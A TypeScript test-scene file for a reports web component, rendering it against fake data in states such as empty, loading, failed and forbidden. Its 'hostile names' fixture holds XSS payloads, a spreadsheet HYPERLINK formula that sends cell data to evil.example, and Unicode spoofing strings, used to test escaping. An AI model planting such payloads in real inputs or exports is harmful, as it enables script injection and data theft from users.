// What a manager sees in the reports, without a server.
import { TellsafeError } from '@tellsafe/core';
import { defineReports } from '../../../packages/agent-client/src/elements/reports/define.ts';
import type { Reports } from '../../../packages/agent-client/src/reports.ts';
import { fakeClient } from '../../../packages/agent-client/test/support/fake-client.ts';
import { fakeReports, madeUp } from '../../../packages/agent-client/test/support/fake-reports.ts';
import type { Look, Scene } from './scene.ts';

const NOW = Date.UTC(2026, 10, 22, 15, 20);

const hostile = {
  forms: {
    a: '<img src=x onerror=alert(1)><b>Card</b>',
    b: '=HYPERLINK("https://evil.example?"&A1,"Open")',
    c: '\u202egnisrever\u0000 \u200b name',
    d: 'PaymentCardPaymentCardPaymentCardPaymentCardPaymentCardPaymentCardPaymentCard',
    e: 'بطاقة الدفع payment (2)',
  },
  agents: { x: '"><script>alert(1)</script>', y: '', z: 'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞' },
};

const month = madeUp({ now: NOW, days: 62, perDay: 9 });
const channels = madeUp({ now: NOW, days: 15, perDay: 9, channels: ['web', 'sms', 'whatsapp'] });

const refusing = (code: 'permission_denied' | 'network_failed'): Reports => {
  const refuse = async (): Promise<never> => {
    throw new TellsafeError(code);
  };
  return {
    ...fakeReports(madeUp({ now: NOW, days: 0, perDay: 0 })),
    figures: refuse,
    invitations: refuse,
    csv: refuse,
  };
};
const slow: Reports = {
  ...fakeReports(month),
  figures: () => new Promise(() => undefined),
};

interface SceneOptions {
  readonly reports: Reports;
  /** Selects a value by the place of its option. */
  readonly choose?: readonly (readonly [field: string, place: number])[];
  /** Presses a button. */
  readonly press?: string;
}

function reports({ reports: source, choose = [], press }: SceneOptions): Scene {
  return async ({ language }: Look) => {
    defineReports();
    const element = document.createElement('tellsafe-reports');
    document.body.append(Object.assign(element, { client: fakeClient({ reports: source, now: () => NOW }), language }));
    await settle(element);
    for (const [name, place] of choose) {
      const field = element.shadowRoot?.querySelector<HTMLSelectElement>(`select[name=${name}]`);
      if (field) Object.assign(field, { selectedIndex: place }).dispatchEvent(new Event('change'));
      await settle(element);
    }
    if (press) element.shadowRoot?.querySelector<HTMLElement>(press)?.click();
    await settle(element);
  };
}

/** Until it is loaded; one scene never is. */
async function settle(element: HTMLElement): Promise<void> {
  for (let turn = 0; turn < 20; turn += 1) {
    await new Promise((resolve) => setTimeout(resolve, 30));
    if (element.shadowRoot?.querySelector('.area[aria-busy=false]')) return;
  }
}

/** Scenes by group and name. */
export const reportScenes: Readonly<Record<string, Readonly<Record<string, Scene>>>> = {
  Reports: {
    'one day': reports({ reports: fakeReports(month), choose: [['period', 0]] }),
    'a month': reports({ reports: fakeReports(month), choose: [['period', 3]] }),
    'several channels': reports({ reports: fakeReports(channels), choose: [['form', 1]] }),
    'own dates': reports({ reports: fakeReports(month), choose: [['period', 5]] }),
    invitations: reports({ reports: fakeReports(month), press: '[data-measure=declined] button' }),
    'hostile names': reports({ reports: fakeReports(madeUp({ now: NOW, days: 12, perDay: 9, ...hostile })) }),
    empty: reports({ reports: fakeReports(madeUp({ now: NOW, days: 0, perDay: 0 })) }),
    loading: reports({ reports: slow }),
    failed: reports({ reports: refusing('network_failed') }),
    forbidden: reports({ reports: refusing('permission_denied') }),
  },
};
